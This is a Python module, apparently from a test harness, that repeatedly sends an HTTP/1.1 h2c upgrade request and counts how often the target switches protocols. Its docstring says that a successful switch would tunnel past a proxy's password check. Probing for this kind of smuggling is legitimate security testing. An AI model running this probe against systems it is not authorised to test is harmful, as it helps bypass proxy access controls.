"""Asks for HTTP/2 in a connection of HTTP/1.1. Served, it would tunnel past a proxy's password."""

import trio

from .target import Target, read_all

ASK = (
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABk\r\n\r\n"
)


async def attack(target: Target) -> None:
    """Ten times a second; `switched` counts those that were served."""
    while True:
        with target.counting(), trio.move_on_after(1):
            async with await target.connect() as stream:
                await stream.send_all(ASK)
                answer = bytes(await stream.receive_some(4096))
                target.tally["switched" if b" 101 " in answer[:16] else answer[9:12].decode("ascii", "replace")] += 1
                with trio.move_on_after(0.05):
                    await read_all(stream)
        await trio.sleep(0.1)
